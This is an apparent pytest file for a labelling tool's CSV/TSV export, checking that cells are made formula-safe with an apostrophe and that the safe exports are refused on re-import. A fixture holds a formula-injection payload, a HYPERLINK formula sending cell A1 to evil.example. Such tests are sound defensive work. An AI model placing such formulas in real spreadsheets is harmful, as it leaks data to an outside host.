"""Tables for people to open: no cell of them is a formula, and they are not taken back in. Without the option nothing is changed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pilotage.core import InputError
from pilotage.judging import Option, Question, Rubric
from pilotage.ledger import entries
from pilotage.review.exchange import export_from, import_into
from pilotage.review.projects import ProjectSettings, create_project
from pilotage.store import Workspace

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'
ROWS = [[EVIL, "@ann", "yes"], ["-2+3", "\tbob", "no"], ["plain", "carol", "+1"]]


@pytest.fixture(params=["table-csv", "table-tsv"])
def format(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def read(path: Path) -> list[list[str]]:
    with path.open(newline="") as file:
        return list(csv.reader(file, delimiter="\t" if path.suffix == ".tsv" else ","))


def take_in(workspace: Workspace, tmp_path: Path, format: str, rows: list[list[str]] = ROWS) -> Path:
    question = Question("q", "Which?", "choice", options=(Option("yes"), Option("no"), Option("+1")))
    create_project(workspace, ProjectSettings(name="p"), rubric=Rubric("r", (question,)), guideline="Be fair.")
    path = tmp_path / f"in.{format[-3:]}"
    with path.open("w", newline="") as file:
        csv.writer(file, delimiter="\t" if format.endswith("tsv") else ",", lineterminator="\n").writerows([["task", "worker", "label"], *rows])
    assert import_into(workspace, "p", path, format).answers == len(rows)
    return path


def test_without_the_option_formulas_leave_as_they_came_and_come_back(workspace: Workspace, tmp_path: Path, format: str) -> None:
    path = take_in(workspace, tmp_path, format)
    out = tmp_path / f"out{path.suffix}"
    assert export_from(workspace, "p", out, format).changed == 0
    assert out.read_bytes() == path.read_bytes()


def test_for_spreadsheets_no_cell_is_a_formula_and_the_rest_is_untouched(workspace: Workspace, tmp_path: Path, format: str) -> None:
    path = take_in(workspace, tmp_path, format)
    out = tmp_path / f"out{path.suffix}"
    report = export_from(workspace, "p", out, format, for_spreadsheets=True)
    assert read(out)[1:] == [["'" + EVIL, "'@ann", "yes"], ["'-2+3", "'\tbob", "no"], ["plain", "carol", "'+1"]]
    assert report.changed == 5 and "apostrophe" in str(report)
    told = list(entries(workspace, subject="p", type="review.exported"))[-1].body
    assert told["for_spreadsheets"] is True and told["changed"] == 5


def test_what_was_made_for_spreadsheets_is_not_taken_back_in(workspace: Workspace, tmp_path: Path, format: str) -> None:
    path = take_in(workspace, tmp_path, format)
    out = tmp_path / f"out{path.suffix}"
    export_from(workspace, "p", out, format, for_spreadsheets=True)
    with pytest.raises(InputError, match="to be opened in a spreadsheet") as refused:
        import_into(workspace, "p", out, format)
    assert "without --for-spreadsheets" in str(refused.value.mend)


def test_where_no_cell_had_to_be_changed_the_file_is_the_loss_free_one(workspace: Workspace, tmp_path: Path, format: str) -> None:
    path = take_in(workspace, tmp_path, format, [["a", "ann", "yes"]])
    out = tmp_path / f"out{path.suffix}"
    assert export_from(workspace, "p", out, format, for_spreadsheets=True).changed == 0
    assert out.read_bytes() == path.read_bytes()
    assert import_into(workspace, "p", out, format).again


def test_a_format_that_no_spreadsheet_opens_is_refused(workspace: Workspace, tmp_path: Path) -> None:
    take_in(workspace, tmp_path, "table-csv")
    with pytest.raises(InputError, match="nothing a spreadsheet opens"):
        export_from(workspace, "p", tmp_path / "out.json", "label-studio", for_spreadsheets=True)
    assert not list(tmp_path.glob("*out*"))
